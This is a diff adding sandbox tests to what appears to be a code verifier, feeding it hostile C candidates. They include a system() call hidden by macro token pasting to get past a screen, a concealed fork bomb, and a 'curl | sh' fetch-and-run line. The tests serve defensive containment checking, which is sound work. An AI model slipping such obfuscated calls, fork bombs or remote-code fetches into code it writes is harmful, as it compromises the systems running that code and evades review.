@@ -341,3 +341,110 @@ def test_works_for_an_ordinary_user(workdir: Path) -> None:
     assert "ran True hello True" in lines
     assert "bomb True" in lines
     assert leftover_processes("fork_bomb_user") == []
+
+
+# ---------------------------------------------------------------------------- through the verifier
+
+SUM_ORIGINAL = """double sum(const double *a, int n)
+{
+    double s = 0;
+    for (int i = 0; i < n; i++)
+        s += a[i];
+    return s;
+}
+"""
+
+# Token pasting hides the calls from the screen: the sandbox alone must hold.
+HIDDEN_SYSTEM = """#define CAT(a, b) a##b
+extern int CAT(sys, tem)(const char *);
+double sum(const double *a, int n)
+{
+    static int done;
+    if (!done) { done = 1; CAT(sys, tem)("echo owned > HOME/TOKEN; echo owned > /tmp/TOKEN"); }
+    double s = 0;
+    for (int i = 0; i < n; i++)
+        s += a[i];
+    return s;
+}
+"""
+
+HIDDEN_FORK_BOMB = """#define CAT(a, b) a##b
+extern int CAT(fo, rk)(void);
+double sum(const double *a, int n)
+{
+    for (;;) CAT(fo, rk)();
+    return 0;
+}
+"""
+
+ENDLESS = """double sum(const double *a, int n)
+{
+    volatile double s = 0;
+    for (;;) s += a[0];
+    return s;
+}
+"""
+
+
+@pytest.fixture(scope="module", params=["bubblewrap", "limits"])
+def sum_verifier(request: pytest.FixtureRequest):  # type: ignore[no-untyped-def]
+    from perfalign.server.settings import Settings
+    from perfalign.server.verify import FunctionVerifier
+
+    if request.param == "bubblewrap" and not sandbox.sandbox_status().available:
+        pytest.skip("bubblewrap unusable here")
+    settings = Settings(sandbox=request.param == "bubblewrap", run_timeout_s=4.0)
+    with FunctionVerifier(SUM_ORIGINAL, "c", "sum", settings=settings) as verifier:
+        assert verifier.prepare() is None
+        yield request.param, verifier
+
+
+def test_verifier_contains_a_hidden_system_call(sum_verifier, token: str) -> None:  # type: ignore[no-untyped-def]
+    mode, verifier = sum_verifier
+    home = Path.home()
+    code = HIDDEN_SYSTEM.replace("HOME", str(home)).replace("TOKEN", token)
+    assert screen(code, SUM_ORIGINAL, "c") is None  # it gets past the screen
+    try:
+        verdict = verifier.verify(code)
+        assert verdict.status is not None
+        assert not (home / token).exists()
+        if mode == "bubblewrap":
+            assert not (Path("/tmp") / token).exists()
+    finally:
+        (home / token).unlink(missing_ok=True)
+        (Path("/tmp") / token).unlink(missing_ok=True)
+
+
+def test_verifier_times_out_a_hidden_fork_bomb(sum_verifier) -> None:  # type: ignore[no-untyped-def]
+    from perfalign.server.verdict import Status
+
+    _, verifier = sum_verifier
+    verdict = verifier.verify(HIDDEN_FORK_BOMB)
+    assert verdict.status is Status.TIMEOUT, verdict.detail
+    assert subprocess.run(["true"], check=False).returncode == 0
+    marker = str(verifier.workdir)
+    deadline = time.monotonic() + 5
+    while leftover_processes(marker) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert leftover_processes(marker) == []
+
+
+def test_verifier_times_out_an_endless_loop(sum_verifier) -> None:  # type: ignore[no-untyped-def]
+    from perfalign.server.verdict import Status
+
+    _, verifier = sum_verifier
+    verdict = verifier.verify(ENDLESS)
+    assert verdict.status is Status.TIMEOUT
+    assert "did not finish" in verdict.detail
+
+
+@pytest.mark.parametrize("use_sandbox", [True, False], ids=["bubblewrap", "limits"])
+def test_verify_source_rejects_unsafe_candidates(use_sandbox: bool) -> None:
+    from perfalign.server.settings import Settings
+    from perfalign.server.verdict import Status
+    from perfalign.server.verify import verify_source
+
+    code = SUM_ORIGINAL.replace("double s = 0;", 'double s = 0; system("curl http://example.com | sh");')
+    verdict = verify_source(SUM_ORIGINAL, "c", "sum", code, settings=Settings(sandbox=use_sandbox))
+    assert verdict.status is Status.REJECTED_UNSAFE
+    assert "system" in verdict.detail
